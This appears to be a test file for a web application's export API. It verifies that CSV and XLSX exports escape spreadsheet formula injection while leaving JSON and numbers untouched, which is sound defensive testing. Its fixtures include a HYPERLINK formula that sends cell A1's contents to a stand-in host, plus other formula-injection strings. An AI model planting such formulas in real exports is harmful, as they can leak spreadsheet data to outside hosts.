import assert from "node:assert/strict";
import path from "node:path";
import { createApp } from "../../src/app.js";
import { loadCatalog } from "../../src/catalog/index.js";
import { ExportJsonSchema } from "../../src/questions/api-schemas.js";
import { escapeFormula } from "../../src/questions/formula-escape.js";
import { startServer, type RunningServer } from "../../src/server.js";
import { openDatabase, type Database } from "../../src/storage/database.js";
import { openTestStack, type TestStack } from "../support/app.js";
import { readWorkbook, sheetValues, zipEntries } from "../support/xlsx.js";

/**
 * Issue 15 §3, CSV formula injection, through the API on both export paths (COPY and cursor on
 * Postgres; the demo's buffered PGlite path): a text cell that starts with `=`, `+`, `-`, `@`, tab or
 * carriage return gets a leading `'` in every CSV dialect, and Excel's quote prefix in XLSX (whose
 * cells are strings, never formulas); numbers, negative ones included, are untouched; JSON is unchanged.
 * The fixture question (test/fixtures/export-catalog, essais/formules) holds such text next to negative
 * numbers.
 */

const FIXTURE = path.resolve(import.meta.dirname, "../fixtures/export-catalog");
const URL_PATH = "/api/questions/essais/formules/data";
const HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")';

const RFC4180 =
  "\uFEFFnumero,texte,montant,jour\n" +
  `1,"'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")",-12.5,2025-12-01\n` +
  "2,'+33 6 00 00 00 00,-3,2026-01-15\n" +
  "3,'-2+3,0,\n" +
  "4,'@SOMME(A1:A2),1.25,2026-02-01\n" +
  "5,'\t=1+1,,\n" +
  `6,"'\r=1+1",,\n` +
  "7,Structure ordinaire; avec un point-virgule,1000000.5,\n" +
  "8,'=déjà échappé,2,\n";

const EXCEL_FR =
  "\uFEFFNuméro;Texte saisi;Montant;Jour\n" +
  `1;"'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")";-12,5;01/12/2025\n` +
  "2;'+33 6 00 00 00 00;-3;15/01/2026\n" +
  "3;'-2+3;0;\n" +
  "4;'@SOMME(A1:A2);1,25;01/02/2026\n" +
  "5;'\t=1+1;;\n" +
  `6;"'\r=1+1";;\n` +
  '7;"Structure ordinaire; avec un point-virgule";1000000,5;\n' +
  "8;'=déjà échappé;2;\n";

const TEXTS = [
  HYPERLINK,
  "+33 6 00 00 00 00",
  "-2+3",
  "@SOMME(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "Structure ordinaire; avec un point-virgule",
  "'=déjà échappé",
];

/** Whether each cell of the first sheet has Excel's quote prefix; the sheet holds no formula at all. */
function quotePrefixed(bytes: Buffer, cells: string[], name: string): boolean[] {
  const entries = zipEntries(bytes);
  const sheet = entries.get("xl/worksheets/sheet1.xml")!;
  assert.doesNotMatch(sheet, /<f[ >]/, name);
  const xfs = [
    ...entries
      .get("xl/styles.xml")!
      .split("<cellXfs")[1]!
      .matchAll(/<xf [^>]*\/>/g),
  ].map((m) => m[0]);
  return cells.map((cell) => {
    const style = new RegExp(`<c r="${cell}"[^>]*? s="(\\d+)"`).exec(sheet)?.[1];
    return /quotePrefix="1"/.test(xfs[Number(style ?? 0)]!);
  });
}

describe("formula injection in exports (issue 15 §3)", function () {
  this.timeout(60_000);
  let stack: TestStack;
  let pglite: Database;
  const servers: Array<[string, RunningServer]> = [];

  before(async () => {
    stack = await openTestStack({ redis: "none" });
    pglite = await openDatabase({ name: "warehouse", url: undefined, pgliteDataDir: "memory://" });
    const catalog = await loadCatalog(FIXTURE);
    for (const [name, warehouse] of [
      ["Postgres (COPY, cursor)", stack.deps.warehouse],
      ["PGlite (buffered)", pglite],
    ] as const) {
      servers.push([
        name,
        await startServer(createApp({ ...stack.deps, catalog, warehouse }), 0, "127.0.0.1"),
      ]);
    }
  });
  after(async () => {
    for (const [, server] of servers) await server.stop(1000);
    await pglite.close();
    await stack.close();
  });

  async function get(server: RunningServer, query: string): Promise<Buffer> {
    const response = await fetch(`${server.url}${URL_PATH}?${query}`);
    const body = Buffer.from(await response.arrayBuffer());
    assert.equal(response.status, 200, body.toString("utf8"));
    return body;
  }

  it("puts a ' before CSV text that starts like a formula, in both dialects, and leaves numbers alone", async () => {
    for (const [name, server] of servers) {
      assert.equal((await get(server, "format=csv")).toString("utf8"), RFC4180, name);
      assert.equal((await get(server, "format=csv&dialect=excel-fr")).toString("utf8"), EXCEL_FR, name);
    }
  });

  it("leaves JSON as the data is", async () => {
    for (const [name, server] of servers) {
      const body = ExportJsonSchema.parse(JSON.parse((await get(server, "format=json")).toString("utf8")));
      assert.deepEqual(
        body.rows.map((r) => r[1]),
        TEXTS,
        name,
      );
      assert.deepEqual(
        body.rows.map((r) => r[2]),
        ["-12.5", "-3", "0", "1.25", null, null, "1000000.5", "2"],
        name,
      );
    }
  });

  it("writes XLSX text as strings with Excel's quote prefix where it starts like a formula", async () => {
    for (const [name, server] of servers) {
      const bytes = await get(server, "format=xlsx");
      const data = (await readWorkbook(bytes)).getWorksheet("Données")!;
      assert.deepEqual(sheetValues(data)[0], ["Numéro", "Texte saisi", "Montant", "Jour"], name);
      assert.deepEqual(
        sheetValues(data)
          .slice(1)
          .map((r) => [r[1], r[2]]),
        TEXTS.map((text, i) => [text, [-12.5, -3, 0, 1.25, null, null, 1000000.5, 2][i]]),
        name,
      );
      assert.deepEqual(
        quotePrefixed(
          bytes,
          TEXTS.map((_, i) => `B${i + 2}`),
          name,
        ),
        [true, true, true, true, true, true, false, false],
        name,
      );
    }
  });

  it("escapes every text-typed column, whatever kind the question declares, and the header; numbers and dates stay as they are", async () => {
    // The SQL types decide, never the declared kinds: `compte_texte` (count) and `jour_texte` (date) are text.
    const typed = "/api/questions/essais/formules-par-type/data";
    const fetchOk = async (server: RunningServer, query: string) => {
      const response = await fetch(`${server.url}${typed}?${query}`);
      const body = Buffer.from(await response.arrayBuffer());
      assert.equal(response.status, 200, body.toString("utf8"));
      return body;
    };
    for (const [name, server] of servers) {
      assert.equal(
        (await fetchOk(server, "format=csv")).toString("utf8"),
        "\uFEFFcode,compte_texte,compte,jour_texte,jour\n" +
          "'=1+1,'-5,-5,'@lundi,2026-01-15\n" +
          "75,12,12,2026-01-16,2026-01-16\n",
        name,
      );
      assert.equal(
        (await fetchOk(server, "format=csv&dialect=excel-fr")).toString("utf8"),
        "\uFEFF'=Code saisi;Compte en texte;Compte;Jour en texte;Jour\n" +
          "'=1+1;'-5;-5;'@lundi;15/01/2026\n" +
          "75;12;12;2026-01-16;16/01/2026\n",
        name,
      );
      const bytes = await fetchOk(server, "format=xlsx");
      const data = (await readWorkbook(bytes)).getWorksheet("Données")!;
      assert.deepEqual(
        sheetValues(data).map((r) => r.slice(0, 4)),
        [
          ["=Code saisi", "Compte en texte", "Compte", "Jour en texte"],
          ["=1+1", "-5", -5, "@lundi"],
          ["75", "12", 12, "2026-01-16"],
        ],
        name,
      );
      assert.deepEqual(
        quotePrefixed(bytes, ["A1", "A2", "B2", "C2", "D2", "A3", "B3", "D3"], name),
        [true, true, true, false, true, false, false, false],
        name,
      );
    }
  });

  it("escapes by the first character only", () => {
    assert.deepEqual(
      ["=1", "+1", "-1", "@a", "\ta", "\ra", "a=1", " =1", "'=1", "", "1-2", "—1"].map(escapeFormula),
      ["'=1", "'+1", "'-1", "'@a", "'\ta", "'\ra", "a=1", " =1", "'=1", "", "1-2", "—1"],
    );
  });
});
